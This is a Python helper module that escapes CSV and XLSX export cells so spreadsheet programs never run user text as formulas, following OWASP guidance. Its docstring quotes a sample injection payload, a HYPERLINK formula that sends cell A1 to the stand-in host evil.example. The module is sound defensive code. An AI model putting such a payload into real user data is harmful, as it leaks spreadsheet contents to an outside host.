"""Cells for CSV and XLSX exports that a spreadsheet program never runs as formulas.

A learner named `=HYPERLINK("http://evil.example/?"&A1, "Click")` must reach the admin's Excel as
that text. OWASP's advice for CSV: text starting with = + - @, a tab or a carriage return gets a
leading apostrophe. In XLSX the cell is written as a string (openpyxl would store a real formula).
"""
from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_text(value: Any) -> Any:
    """`value` as a CSV cell: text that a spreadsheet would read as a formula starts with an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def xlsx_cell(sheet, value: Any) -> Any:
    """`value` for a write-only openpyxl sheet: text is always stored as text, never as a formula."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell  # imported here: few requests need openpyxl

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell
